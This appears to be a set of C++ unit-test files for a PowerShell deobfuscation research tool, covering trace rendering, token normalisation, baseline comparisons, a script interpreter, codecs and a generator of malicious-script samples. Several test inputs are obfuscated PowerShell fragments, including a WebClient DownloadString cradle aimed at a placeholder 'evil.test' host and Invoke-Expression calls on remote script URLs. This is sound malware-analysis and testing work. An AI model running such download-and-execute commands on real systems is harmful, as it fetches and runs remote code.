TEST(Trace, RenderClipsLongPayloads) {
  const std::string big(500, 'x');
  const auto trace = trace_of("iex ('" + big + "'+'b') | Out-Null");
  const std::string rendered = render_trace(trace, 30);
  std::istringstream stream(rendered);
  std::string line;
  while (std::getline(stream, line)) {
    EXPECT_LE(line.size(), 140u) << line;
  }
}

TEST(Trace, SinkCapsEventsAndCountsDropped) {
  TraceSink sink(3);
  for (int i = 0; i < 5; ++i) {
    sink.emit({TraceEvent::Kind::TokenNormalized, 0, "a", "b", 0});
  }
  EXPECT_EQ(sink.events().size(), 3u);
  EXPECT_TRUE(sink.truncated());
  EXPECT_EQ(sink.dropped(), 2u);
}

TEST(Trace, SinkZeroCapStillKeepsOneEvent) {
  TraceSink sink(0);
  sink.emit({TraceEvent::Kind::Renamed, 0, "x", "y", 0});
  sink.emit({TraceEvent::Kind::Renamed, 0, "x", "y", 0});
  EXPECT_EQ(sink.events().size(), 1u);
  EXPECT_EQ(sink.dropped(), 1u);
}

TEST(Trace, RenderAppendsTruncationNote) {
  const auto trace = trace_of("iex ('a'+'b')");
  const std::string full = render_trace(trace, 60, 0);
  EXPECT_EQ(full.find("[trace truncated"), std::string::npos);
  const std::string clipped = render_trace(trace, 60, 7);
  EXPECT_NE(clipped.find("[trace truncated: 7 further events dropped]"),
            std::string::npos);
  EXPECT_NE(render_trace(trace, 60, 1)
                .find("[trace truncated: 1 further event dropped]"),
            std::string::npos);
}

TEST(Trace, PipelineCapSurfacesTruncationOnReport) {
  // A tiny cap against a script that emits several events: the report must
  // say the trace is clipped so an analyst never mistakes it for complete.
  Options opts;
  opts.telemetry.collect_trace = true;
  opts.telemetry.max_trace_events = 2;
  InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  (void)deobf.deobfuscate("i`E`x ('Write-Output '+\"'t'\")\n$u = 'v'\n"
                          "Write-Output ($u + 'w')",
                          report);
  EXPECT_EQ(report.trace.size(), 2u);
  EXPECT_TRUE(report.trace_truncated);
  EXPECT_GT(report.trace_dropped, 0u);
  const std::string rendered =
      render_trace(report.trace, 60, report.trace_dropped);
  EXPECT_NE(rendered.find("[trace truncated"), std::string::npos);
}

TEST(Trace, KindNames) {
  EXPECT_EQ(to_string(TraceEvent::Kind::TokenNormalized), "token");
  EXPECT_EQ(to_string(TraceEvent::Kind::PieceRecovered), "recovered");
  EXPECT_EQ(to_string(TraceEvent::Kind::LayerUnwrapped), "unwrapped");
  EXPECT_EQ(to_string(TraceEvent::Kind::Renamed), "renamed");
}

}  // namespace
}  // namespace ideobf
