// Dedicated token-pass battery (paper phase 1): every L1 rule, stats
// accounting, and in-place replacement correctness under mixed changes.

#include <gtest/gtest.h>

#include "core/token_pass.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

TEST(TokenPass2, TickedVariables) {
  // Ticks cannot appear inside `$name` itself but do appear around it in
  // wild text; tokens without ticks stay untouched.
  const char* src = "$abc = 5";
  EXPECT_EQ(token_pass(src, nullptr), src);
}

TEST(TokenPass2, TickedTypeLiterals) {
  const std::string out = token_pass("[cOnVeRt]::FromBase64String('QQ==')", nullptr);
  EXPECT_EQ(out, "[convert]::FromBase64String('QQ==')");
}

TEST(TokenPass2, TickedMembers) {
  const std::string out =
      token_pass("$x.DoWnLoAdStRiNg('u')", nullptr);
  EXPECT_EQ(out, "$x.downloadstring('u')");
}

TEST(TokenPass2, MixedChangesInOneScript) {
  TokenPassStats stats;
  const std::string out = token_pass(
      "IeX 'a'; WrItE-hOsT hi; nEw-oBjEcT Net.WebClient | oUt-nUlL", &stats);
  EXPECT_EQ(out,
            "Invoke-Expression 'a'; Write-Host hi; New-Object Net.WebClient | "
            "Out-Null");
  EXPECT_GE(stats.aliases_expanded, 1);
  EXPECT_GE(stats.case_normalized, 2);
}

TEST(TokenPass2, StatsCountTicks) {
  TokenPassStats stats;
  token_pass("i`e`x 'x'", &stats);
  EXPECT_GE(stats.ticks_removed, 1);
  EXPECT_GE(stats.aliases_expanded, 1);
}

TEST(TokenPass2, ReplacementKeepsValidity) {
  const char* scripts[] = {
      "fOrEaCh-oBjEcT { $_ } -Begin { 1 }",
      "if ($true) { gCi 'C:\\' } else { sLeEp 1 }",
      "$a = [TeXt.EnCoDiNg]::Unicode",
      "'x' | % { $_.LeNgTh }",
  };
  for (const char* s : scripts) {
    const std::string out = token_pass(s, nullptr);
    EXPECT_TRUE(ps::is_valid_syntax(out)) << s << " -> " << out;
  }
}

TEST(TokenPass2, ParametersNormalized) {
  EXPECT_EQ(token_pass("powershell -eNcOdEdCoMmAnD QQ==", nullptr),
            "powershell -encodedcommand QQ==");
}

TEST(TokenPass2, NamedOperatorsNormalized) {
  EXPECT_EQ(token_pass("'a b' -SpLiT ' ' -JoIn ','", nullptr),
            "'a b' -split ' ' -join ','");
}

TEST(TokenPass2, KeywordsLowercased) {
  EXPECT_EQ(token_pass("IF ($x) { 1 } ELSE { 2 }", nullptr),
            "if ($x) { 1 } else { 2 }");
}

TEST(TokenPass2, SingleCaseWordsKept) {
  // ALL-CAPS or all-lower identifiers are not "random case".
  EXPECT_EQ(token_pass("UNKNOWNCMD arg", nullptr), "UNKNOWNCMD arg");
  EXPECT_EQ(token_pass("unknowncmd ARG", nullptr), "unknowncmd ARG");
}

TEST(TokenPass2, PascalArgumentsKept) {
  EXPECT_EQ(token_pass("New-Object Net.WebClient", nullptr),
            "New-Object Net.WebClient");
}

TEST(TokenPass2, Base64ArgumentsNeverTouched) {
  const char* src = "powershell -e VwByAGkAdABlAC0ASG9zdA==";
  EXPECT_EQ(token_pass(src, nullptr), src);
}

TEST(TokenPass2, CanonicalCommandName) {
  EXPECT_EQ(canonical_command_name("iex"), "Invoke-Expression");
  EXPECT_EQ(canonical_command_name("WRITE-HOST"), "Write-Host");
  EXPECT_EQ(canonical_command_name("wRiTe-HoSt"), "Write-Host");
  EXPECT_EQ(canonical_command_name("sOmEtHiNg-Odd"), "something-odd");
  EXPECT_EQ(canonical_command_name("Known-Style"), "Known-Style");
}

TEST(TokenPass2, IdempotentOnCleanScripts) {
  const char* scripts[] = {
      "Write-Host hello",
      "$url = 'http://x.test/a.ps1'\nInvoke-Expression $url",
      "foreach ($i in 1..3) { $i }",
  };
  for (const char* s : scripts) {
    const std::string once = token_pass(s, nullptr);
    EXPECT_EQ(token_pass(once, nullptr), once) << s;
  }
}

}  // namespace
}  // namespace ideobf
