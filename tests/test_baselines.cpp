// Deeper per-baseline behavior tests: each reimplemented tool must exhibit
// the published strengths *and* the published failure modes the paper's
// comparative results rest on.

#include <gtest/gtest.h>

#include "baselines/baseline.h"
#include "core/recovery.h"
#include "pslang/alias_table.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

// ------------------------------------------------------------- PSDecode

TEST(PSDecodeTool, StripsTicksEvenInsideStrings) {
  // The regex imprecision the paper calls out: tick removal is global and
  // corrupts backtick escapes inside double-quoted strings.
  auto tool = make_psdecode();
  const std::string out = tool->run("Write-Host \"a`tb\"").script;
  EXPECT_EQ(out.find('`'), std::string::npos);
  EXPECT_NE(out, "Write-Host \"a`tb\"");
}

TEST(PSDecodeTool, PeelsNestedLiteralLayers) {
  auto tool = make_psdecode();
  const std::string inner = "Write-Host hi";
  const std::string l1 = "iex '" + inner + "'";
  std::string quoted_l1;
  for (char c : l1) {
    if (c == '\'') quoted_l1 += "''";
    else quoted_l1.push_back(c);
  }
  const std::string l2 = "iex '" + quoted_l1 + "'";
  EXPECT_EQ(tool->run(l2).script, inner);
}

TEST(PSDecodeTool, CannotFoldConcat) {
  auto tool = make_psdecode();
  const std::string src = "Write-Host ('a'+'b')";
  EXPECT_EQ(tool->run(src).script, src);
}

// ------------------------------------------------------------ PowerDrive

TEST(PowerDriveTool, FoldsChainedConcat) {
  auto tool = make_powerdrive();
  EXPECT_EQ(tool->run("iex ('Write-'+'Ho'+'st hi')").script, "Write-Host hi");
}

TEST(PowerDriveTool, FlatteningBreaksMultilineScripts) {
  auto tool = make_powerdrive();
  const std::string out = tool->run("$a = 1\n$b = 2").script;
  EXPECT_FALSE(ps::is_valid_syntax(out)) << out;
}

// ----------------------------------------------------------- PowerDecode

TEST(PowerDecodeTool, FoldsLiteralReplaceCalls) {
  auto tool = make_powerdecode();
  const std::string out =
      tool->run("Write-Host ('hXllo'.Replace('X','e'))").script;
  EXPECT_TRUE(contains_ci(out, "'hello'")) << out;
}

TEST(PowerDecodeTool, EvaluatesVariableFreeFormatLayers) {
  auto tool = make_powerdecode();
  const std::string out =
      tool->run("iex (\"{1}{0}\" -f 'Host hi', 'Write-')").script;
  EXPECT_EQ(out, "Write-Host hi");
}

TEST(PowerDecodeTool, RefusesVariableLayers) {
  auto tool = make_powerdecode();
  const std::string src = "$p = 'Write-Host hi'\niex ($p)";
  EXPECT_EQ(tool->run(src).script, src);
}

TEST(PowerDecodeTool, DecodesEncodedCommand) {
  // powershell -enc with a UTF-16LE payload ("Write-Host hi").
  auto tool = make_powerdecode();
  const std::string out =
      tool->run("powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=").script;
  EXPECT_EQ(out, "Write-Host hi");
}

// -------------------------------------------------------------- Li et al.

TEST(LiTool, ReplacesAllOccurrencesAtOnce) {
  // Context-free replacement: identical pieces are replaced everywhere,
  // even when one occurrence lives inside a string literal.
  auto tool = make_li_etal();
  const std::string src =
      "('a'+'b')\nWrite-Host \"the piece ('a'+'b') is logged\"";
  const std::string out = tool->run(src).script;
  EXPECT_TRUE(contains_ci(out, "the piece 'ab' is logged")) << out;
}

TEST(LiTool, PaysSimulatedTimeForUnrelatedCommands) {
  auto tool = make_li_etal();
  const BaselineResult r = tool->run("Start-Sleep 6 | Out-Null");
  EXPECT_GE(r.simulated_seconds, 6.0);
}

TEST(LiTool, ReturnsInputOnUnparsableScripts) {
  auto tool = make_li_etal();
  const std::string bad = "if ( 'broken";
  EXPECT_EQ(tool->run(bad).script, bad);
}

// ------------------------------------------------------- ours vs. corpus

TEST(OursTool, ValueLiteralQuotingIsSafe) {
  // Recovery writes back single-quoted literals; embedded quotes must be
  // escaped so the output stays valid.
  auto ours = make_invoke_deobfuscation();
  const std::string out = ours->run("Write-Host ('it''s'+' fine')").script;
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  EXPECT_TRUE(contains_ci(out, "it''s fine")) << out;
}

TEST(OursTool, ExpandableStringInterpolationRecovered) {
  auto ours = make_invoke_deobfuscation();
  const std::string src =
      "$host_name = 'evil.test'\n"
      "(New-Object Net.WebClient).DownloadString(\"http://$host_name/x\")";
  const std::string out = ours->run(src).script;
  EXPECT_TRUE(contains_ci(out, "http://evil.test/x")) << out;
}

TEST(OursTool, KeepsUntraceableInterpolation) {
  auto ours = make_invoke_deobfuscation();
  const std::string src = "1,2 | ForEach-Object { Write-Host \"item $_\" }";
  const std::string out = ours->run(src).script;
  EXPECT_TRUE(contains_ci(out, "$_")) << out;
}

TEST(RecoveryUnit, ExpandableStringsSubstituted) {
  RecoveryOptions opts;
  RecoveryStats stats;
  const std::string out = recovery_pass(
      "$p = 'path'\nWrite-Host \"C:\\$p\\x.ps1\"", opts, &stats);
  EXPECT_TRUE(contains_ci(out, "'C:\\path\\x.ps1'")) << out;
}

}  // namespace
}  // namespace ideobf
