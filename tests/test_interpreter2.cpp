// Second interpreter test battery: operator edge cases, cmdlet coverage,
// wildcard and composite-format engines, and error paths.

#include <gtest/gtest.h>

#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

// ------------------------------------------------------------- wildcards

TEST(Wildcard, Basics) {
  EXPECT_TRUE(wildcard_match("*", "anything"));
  EXPECT_TRUE(wildcard_match("a*", "abc"));
  EXPECT_TRUE(wildcard_match("*c", "abc"));
  EXPECT_TRUE(wildcard_match("a*c", "abc"));
  EXPECT_TRUE(wildcard_match("a?c", "abc"));
  EXPECT_FALSE(wildcard_match("a?c", "ac"));
  EXPECT_TRUE(wildcard_match("ABC", "abc"));  // case-insensitive
  EXPECT_FALSE(wildcard_match("a*d", "abc"));
  EXPECT_TRUE(wildcard_match("", ""));
  EXPECT_FALSE(wildcard_match("", "x"));
  EXPECT_TRUE(wildcard_match("*", ""));
}

TEST(Wildcard, CharacterClasses) {
  EXPECT_TRUE(wildcard_match("[abc]x", "bx"));
  EXPECT_FALSE(wildcard_match("[abc]x", "dx"));
  EXPECT_TRUE(wildcard_match("[a-f]1", "c1"));
  EXPECT_FALSE(wildcard_match("[a-f]1", "z1"));
}

TEST(Wildcard, MultipleStars) {
  EXPECT_TRUE(wildcard_match("*evil*", "very-evil-domain"));
  EXPECT_TRUE(wildcard_match("a*b*c", "aXXbYYc"));
  EXPECT_FALSE(wildcard_match("a*b*c", "aXXcYYb"));
}

// ------------------------------------------------------- format operator

TEST(FormatOperator, Direct) {
  EXPECT_EQ(format_operator("{0}", {Value("x")}), "x");
  EXPECT_EQ(format_operator("{1}{0}", {Value("b"), Value("a")}), "ab");
  EXPECT_EQ(format_operator("a {{literal}} b", {}), "a {literal} b");
  EXPECT_EQ(format_operator("{0:X}", {Value(255)}), "FF");
  EXPECT_EQ(format_operator("{0:x2}", {Value(11)}), "0b");
  EXPECT_EQ(format_operator("{0:D4}", {Value(7)}), "0007");
  EXPECT_EQ(format_operator("{0,3}!", {Value(5)}), "  5!");
  EXPECT_EQ(format_operator("{0,-3}!", {Value(5)}), "5  !");
  EXPECT_THROW(format_operator("{5}", {Value("x")}), EvalError);
  EXPECT_THROW(format_operator("{", {}), EvalError);
}

// ---------------------------------------------------------- regex + match

TEST(Interp2, MatchOperatorOnArrays) {
  EXPECT_EQ(run_str("('cat','dog','cow' -match '^c') -join ','"), "cat,cow");
  EXPECT_EQ(run_str("('cat','dog' -notmatch 'cat') -join ','"), "dog");
}

TEST(Interp2, ReplaceWithGroups) {
  EXPECT_EQ(run_str("'a-b' -replace '(\\w)-(\\w)', '$2-$1'"), "b-a");
}

TEST(Interp2, LikeOnArrays) {
  EXPECT_EQ(run_str("('abc','xbc','ayc' -like 'a*c') -join ','"), "abc,ayc");
}

TEST(Interp2, EqFiltersArrays) {
  EXPECT_EQ(run_str("(1,2,1,3 -eq 1) -join ','"), "1,1");
  EXPECT_EQ(run_str("(1,2,3 -ne 2) -join ','"), "1,3");
}

// --------------------------------------------------------------- strings

TEST(Interp2, PadAndCase) {
  EXPECT_EQ(run_str("'7'.PadLeft(3, '0')"), "007");
  EXPECT_EQ(run_str("'ab'.PadRight(4, '.')"), "ab..");
  EXPECT_EQ(run_str("'xYz'.ToUpperInvariant()"), "XYZ");
}

TEST(Interp2, InsertRemove) {
  EXPECT_EQ(run_str("'helo'.Insert(3, 'l')"), "hello");
  EXPECT_EQ(run_str("'heXllo'.Remove(2, 1)"), "hello");
  EXPECT_THROW(run("'ab'.Remove(5)"), EvalError);
}

TEST(Interp2, TrimVariants) {
  EXPECT_EQ(run_str("'xxhixx'.Trim('x')"), "hi");
  EXPECT_EQ(run_str("'xxhi'.TrimStart('x')"), "hi");
  EXPECT_EQ(run_str("'hixx'.TrimEnd('x')"), "hi");
}

TEST(Interp2, NumberToStringHex) {
  EXPECT_EQ(run_str("(255).ToString('X2')"), "FF");
  EXPECT_EQ(run_str("(75).ToString('x')"), "4b");
}

TEST(Interp2, HereStringValue) {
  EXPECT_EQ(run_str("@'\nline1\nline2\n'@"), "line1\nline2");
}

// -------------------------------------------------------------- hashtables

TEST(Interp2, HashtableIndexAssign) {
  EXPECT_EQ(run_str("$h = @{}; $h['k'] = 'v'; $h['k']"), "v");
  EXPECT_EQ(run_str("$h = @{ k = 'old' }; $h['K'] = 'new'; $h.k"), "new");
  EXPECT_EQ(run("$h = @{ a = 1; b = 2 }; $h.Keys.Length").get_int(), 2);
}

TEST(Interp2, ArrayIndexAssign) {
  EXPECT_EQ(run_str("$a = 'x','y'; $a[1] = 'z'; $a -join ''"), "xz");
  EXPECT_EQ(run_str("$a = 1,2,3; $a[-1] = 9; $a -join ','"), "1,2,9");
}

// ------------------------------------------------------------- functions

TEST(Interp2, FunctionArgsArray) {
  EXPECT_EQ(run_str("function F { $args -join '+' }; F a b c"), "a+b+c");
}

TEST(Interp2, FunctionRecursion) {
  EXPECT_EQ(run("function Fact($n) { if ($n -le 1) { return 1 }; "
                "return $n * (Fact ($n - 1)) }; Fact 5")
                .get_int(),
            120);
}

TEST(Interp2, FunctionScopeIsolation) {
  EXPECT_EQ(run_str("$x = 'outer'; function F { $x = 'inner' }; F; $x"),
            "outer");
}

// ---------------------------------------------------------------- cmdlets

TEST(Interp2, SelectFirst) {
  EXPECT_EQ(run_str("(1..10 | Select-Object -First 3) -join ','"), "1,2,3");
}

TEST(Interp2, SortUniqueDescending) {
  EXPECT_EQ(run_str("(3,1,2 | Sort-Object) -join ','"), "1,2,3");
  EXPECT_EQ(run_str("(3,1,2 | Sort-Object -Descending) -join ','"), "3,2,1");
  EXPECT_EQ(run_str("(2,1,2,1 | Sort-Object -Unique) -join ','"), "1,2");
}

TEST(Interp2, MeasureObject) {
  EXPECT_EQ(run_str("(1..5 | Measure-Object).Count"), "5");
}

TEST(Interp2, SelectString) {
  EXPECT_EQ(run_str("('alpha','beta','gamma' | Select-String 'a$') -join ','"),
            "alpha,beta,gamma");
  EXPECT_EQ(run_str("('alpha','beta' | Select-String 'lph') -join ','"), "alpha");
}

TEST(Interp2, OutString) {
  EXPECT_EQ(run_str("'a','b' | Out-String"), "a\r\nb");
}

TEST(Interp2, GetVariableCmdlet) {
  EXPECT_EQ(run_str("$v = 'val'; Get-Variable v"), "val");
  EXPECT_EQ(run_str("Get-Variable pshome"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0");
}

TEST(Interp2, SetVariableCmdlet) {
  EXPECT_EQ(run_str("Set-Variable n 'x'; $n"), "x");
}

TEST(Interp2, JoinSplitPath) {
  EXPECT_EQ(run_str("Join-Path 'C:\\a' 'b.ps1'"), "C:\\a\\b.ps1");
  EXPECT_EQ(run_str("Split-Path 'C:\\a\\b.ps1'"), "C:\\a");
  EXPECT_EQ(run_str("Split-Path 'C:\\a\\b.ps1' -Leaf"), "b.ps1");
}

TEST(Interp2, GetRandomIsDeterministicPerProcessSeed) {
  const std::string a = run_str("Get-Random -Minimum 0 -Maximum 100");
  EXPECT_FALSE(a.empty());
}

TEST(Interp2, ForEachMemberForm) {
  EXPECT_EQ(run_str("('ab','cd' | ForEach-Object ToUpper) -join ','"), "AB,CD");
}

// ----------------------------------------------------------- error paths

TEST(Interp2, DivisionByZero) { EXPECT_THROW(run("1 / 0"), EvalError); }
TEST(Interp2, ModuloByZero) { EXPECT_THROW(run("1 % 0"), EvalError); }
TEST(Interp2, BadSubstring) { EXPECT_THROW(run("'ab'.Substring(9)"), EvalError); }
TEST(Interp2, UnknownMethod) {
  EXPECT_THROW(run("'ab'.NoSuchMethod()"), EvalError);
}
TEST(Interp2, UnknownStatic) {
  EXPECT_THROW(run("[Convert]::NoSuch('x')"), EvalError);
}
TEST(Interp2, ThrowPropagates) {
  EXPECT_THROW(run("throw 'boom'"), EvalError);
}
TEST(Interp2, TryCatchFinallyOrder) {
  EXPECT_EQ(run_str("$log = ''; try { $log += 't'; throw 'x' } catch { $log "
                    "+= 'c' } finally { $log += 'f' }; $log"),
            "tcf");
}

// ------------------------------------------------------------- operators

TEST(Interp2, IsOperator) {
  EXPECT_TRUE(run("'s' -is [string]").get_bool());
  EXPECT_TRUE(run("5 -is [int]").get_bool());
  EXPECT_FALSE(run("5 -is [string]").get_bool());
  EXPECT_TRUE(run("5 -isnot [string]").get_bool());
  EXPECT_TRUE(run("(1,2) -is [array]").get_bool());
}

TEST(Interp2, AsOperator) {
  EXPECT_EQ(run("'42' -as [int]").get_int(), 42);
  EXPECT_TRUE(run("'nope' -as [int]").is_null());
}

TEST(Interp2, UnaryCommaWrapsArray) {
  EXPECT_EQ(run("(,5).Length").get_int(), 1);
  EXPECT_EQ(run("(,(1,2)).Length").get_int(), 1);
}

TEST(Interp2, PrefixPostfixIncrement) {
  EXPECT_EQ(run("$i = 5; $j = $i++; \"$i,$j\"").to_display_string(), "6,5");
  EXPECT_EQ(run("$i = 5; $j = ++$i; \"$i,$j\"").to_display_string(), "6,6");
}

TEST(Interp2, ShortCircuit) {
  // -and must not evaluate the RHS when LHS is false.
  EXPECT_FALSE(run("$false -and (1/0)").get_bool());
  EXPECT_TRUE(run("$true -or (1/0)").get_bool());
}

TEST(Interp2, NegativeModArithmetic) {
  EXPECT_EQ(run("-7 % 3").get_int(), -1);
  EXPECT_EQ(run("2 - -3").get_int(), 5);
}

TEST(Interp2, StringTimesZero) { EXPECT_EQ(run_str("'ab' * 0"), ""); }

TEST(Interp2, ChainedPipeline) {
  EXPECT_EQ(run_str("1..10 | ? { $_ % 2 -eq 0 } | % { $_ * 10 } | "
                    "Select-Object -First 2 | % { $_ + 1 } | % { [string]$_ } "
                    "| % { $_ } | Out-String"),
            "21\r\n41");
}

TEST(Interp2, SubexpressionMultiStatement) {
  EXPECT_EQ(run_str("\"sum=$(1+1; 2+2)\""), "sum=2 4");
}

TEST(Interp2, ScriptBlockAsValueRoundTrip) {
  EXPECT_EQ(run_str("$sb = { 'inner' }; $sb.ToString().Trim()"), "'inner'");
}

TEST(Interp2, EnvAssignment) {
  EXPECT_EQ(run_str("$env:CUSTOM_VAR = 'zzz'; $env:CUSTOM_VAR"), "zzz");
}

TEST(Interp2, GlobalScopeAssignment) {
  EXPECT_EQ(run_str("function F { $global:g = 'set-inside' }; F; $g"),
            "set-inside");
}

}  // namespace
}  // namespace ps
