// Per-family corpus assertions: each template must carry the indicator
// types and structural features its threat class implies.

#include <gtest/gtest.h>

#include <map>

#include "corpus/corpus.h"
#include "pslang/alias_table.h"
#include "psast/parser.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

std::map<std::string, std::vector<Sample>> by_family(std::size_t n) {
  CorpusGenerator gen(404);
  std::map<std::string, std::vector<Sample>> out;
  for (Sample& s : gen.generate_batch(n)) {
    out[s.family].push_back(std::move(s));
  }
  return out;
}

TEST(Corpus2, AllFamiliesAppear) {
  const auto groups = by_family(250);
  for (const std::string& family : CorpusGenerator::families()) {
    EXPECT_TRUE(groups.count(family)) << family;
  }
}

TEST(Corpus2, FamilyIndicators) {
  const auto groups = by_family(250);
  for (const auto& [family, samples] : groups) {
    for (const Sample& s : samples) {
      if (family == "downloader" || family == "oneliner" || family == "stager") {
        EXPECT_FALSE(s.ground_truth.urls.empty()) << family << "\n" << s.original;
        EXPECT_FALSE(s.ground_truth.ps1_files.empty()) << family;
      }
      if (family == "recon" || family == "beacon" || family == "exfil") {
        EXPECT_FALSE(s.ground_truth.ips.empty()) << family << "\n" << s.original;
      }
      if (family == "dropper") {
        EXPECT_GE(s.ground_truth.powershell_commands, 1) << s.original;
      }
      if (family == "binary_dropper") {
        EXPECT_TRUE(contains_ci(s.original, "FromBase64String")) << s.original;
        EXPECT_TRUE(contains_ci(s.original, "WriteAllBytes")) << s.original;
      }
    }
  }
}

TEST(Corpus2, BeaconLoopsAreLoops) {
  CorpusGenerator gen(405);
  for (int i = 0; i < 60; ++i) {
    const Sample s = gen.generate();
    if (s.family != "beacon") continue;
    auto root = ps::try_parse(s.original);
    ASSERT_NE(root, nullptr);
    bool has_while = false;
    root->post_order([&](const ps::Ast& node) {
      if (node.kind() == ps::NodeKind::WhileStatement) has_while = true;
    });
    EXPECT_TRUE(has_while) << s.original;
  }
}

TEST(Corpus2, StagerWritesAndReads) {
  CorpusGenerator gen(406);
  Sandbox sandbox;
  for (int i = 0; i < 80; ++i) {
    const Sample s = gen.generate();
    if (s.family != "stager") continue;
    const BehaviorProfile p = sandbox.run(s.original);
    bool wrote = false, read = false;
    for (const auto& f : p.files) {
      if (f.rfind("write:", 0) == 0) wrote = true;
      if (f.rfind("read:", 0) == 0) read = true;
    }
    EXPECT_TRUE(wrote && read) << s.original;
  }
}

TEST(Corpus2, TechniquesListedMatchLayersField) {
  CorpusGenerator gen(407);
  for (const Sample& s : gen.generate_batch(50)) {
    // layers counts only invocation wrappers, which are not in techniques.
    for (Technique t : s.techniques) {
      (void)t;  // all listed techniques must be valid enum values
      EXPECT_FALSE(std::string(to_string(t)).empty());
    }
    EXPECT_GE(s.layers, 0);
    EXPECT_LE(s.layers, 2);
  }
}

TEST(Corpus2, DistinctIocsAcrossSamples) {
  CorpusGenerator gen(408);
  std::set<std::string> urls;
  int with_url = 0;
  for (const Sample& s : gen.generate_batch(40)) {
    for (const auto& u : s.ground_truth.urls) {
      urls.insert(u);
      ++with_url;
    }
  }
  // Randomized hosts/paths must not collapse to a handful of IOCs.
  EXPECT_GE(urls.size(), static_cast<std::size_t>(with_url / 2));
}

}  // namespace
}  // namespace ideobf
