// Unit + property tests for the codec substrates: Base64, text encodings,
// DEFLATE, AES-CBC and the SecureString blob format.

#include <gtest/gtest.h>

#include <random>

#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/encodings.h"

namespace ps {
namespace {

TEST(Base64, KnownVectors) {
  EXPECT_EQ(base64_encode({}), "");
  EXPECT_EQ(base64_encode({'f'}), "Zg==");
  EXPECT_EQ(base64_encode({'f', 'o'}), "Zm8=");
  EXPECT_EQ(base64_encode({'f', 'o', 'o'}), "Zm9v");
  EXPECT_EQ(base64_encode({'f', 'o', 'o', 'b'}), "Zm9vYg==");
  EXPECT_EQ(base64_encode({'f', 'o', 'o', 'b', 'a'}), "Zm9vYmE=");
  EXPECT_EQ(base64_encode({'f', 'o', 'o', 'b', 'a', 'r'}), "Zm9vYmFy");
}

TEST(Base64, DecodeKnown) {
  auto d = base64_decode("Zm9vYmFy");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(std::string(d->begin(), d->end()), "foobar");
}

TEST(Base64, DecodeSkipsWhitespace) {
  auto d = base64_decode("Zm9v\n YmFy");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(std::string(d->begin(), d->end()), "foobar");
}

TEST(Base64, RejectsInvalid) {
  EXPECT_FALSE(base64_decode("Zm9v!").has_value());
  EXPECT_FALSE(base64_decode("Zg==Zg").has_value());
}

TEST(Base64, LooksLike) {
  EXPECT_TRUE(looks_like_base64("Zm9vYmFy"));
  EXPECT_TRUE(looks_like_base64("Zg=="));
  EXPECT_FALSE(looks_like_base64("hello world"));
  EXPECT_FALSE(looks_like_base64(""));
  EXPECT_FALSE(looks_like_base64("abc"));  // bad length
}

class Base64RoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(Base64RoundTrip, EncodeDecodeIsIdentity) {
  std::mt19937 rng(GetParam());
  const std::size_t n = rng() % 500;
  ByteVec data(n);
  for (auto& b : data) b = static_cast<std::uint8_t>(rng());
  auto back = base64_decode(base64_encode(data));
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, data);
}

INSTANTIATE_TEST_SUITE_P(Seeds, Base64RoundTrip, ::testing::Range(0, 25));

TEST(ConvertToInt, Bases) {
  EXPECT_EQ(convert_to_int("4B", 16).value(), 0x4B);
  EXPECT_EQ(convert_to_int("0x4B", 16).value(), 0x4B);
  EXPECT_EQ(convert_to_int("101", 2).value(), 5);
  EXPECT_EQ(convert_to_int("777", 8).value(), 511);
  EXPECT_EQ(convert_to_int("123", 10).value(), 123);
  EXPECT_FALSE(convert_to_int("8", 8).has_value());
  EXPECT_FALSE(convert_to_int("zz", 16).has_value());
}

TEST(ConvertToString, Bases) {
  EXPECT_EQ(convert_to_string_base(0x4B, 16), "4b");
  EXPECT_EQ(convert_to_string_base(5, 2), "101");
  EXPECT_EQ(convert_to_string_base(511, 8), "777");
  EXPECT_EQ(convert_to_string_base(0, 16), "0");
  EXPECT_EQ(convert_to_string_base(-255, 16), "-ff");
}

class IntBaseRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(IntBaseRoundTrip, Identity) {
  std::mt19937 rng(GetParam() + 77);
  for (int base : {2, 8, 10, 16}) {
    const std::int64_t v = static_cast<std::int64_t>(rng() % 1000000);
    const auto s = convert_to_string_base(v, base);
    EXPECT_EQ(convert_to_int(s, base).value(), v);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, IntBaseRoundTrip, ::testing::Range(0, 20));

TEST(TextEncoding, Utf16RoundTrip) {
  const std::string text = "https://test.com/malware.txt";
  const ByteVec bytes = encoding_get_bytes(TextEncoding::Unicode, text);
  EXPECT_EQ(bytes.size(), text.size() * 2);
  EXPECT_EQ(encoding_get_string(TextEncoding::Unicode, bytes), text);
}

TEST(TextEncoding, AsciiMasksHighBit) {
  const ByteVec bytes = {0x41, 0xC1};
  EXPECT_EQ(encoding_get_string(TextEncoding::Ascii, bytes), "AA");
}

TEST(TextEncoding, Utf8PassThrough) {
  const std::string text = "abc\xE2\x82\xAC";  // euro sign
  const ByteVec bytes = encoding_get_bytes(TextEncoding::Utf8, text);
  EXPECT_EQ(encoding_get_string(TextEncoding::Utf8, bytes), text);
}

TEST(TextEncoding, Utf16NonAscii) {
  const std::string text = "\xE2\x82\xAC";  // U+20AC
  const ByteVec bytes = encoding_get_bytes(TextEncoding::Unicode, text);
  ASSERT_EQ(bytes.size(), 2u);
  EXPECT_EQ(bytes[0], 0xAC);
  EXPECT_EQ(bytes[1], 0x20);
  EXPECT_EQ(encoding_get_string(TextEncoding::Unicode, bytes), text);
}

TEST(Utf8, Codepoints) {
  EXPECT_EQ(utf8_length("abc"), 3u);
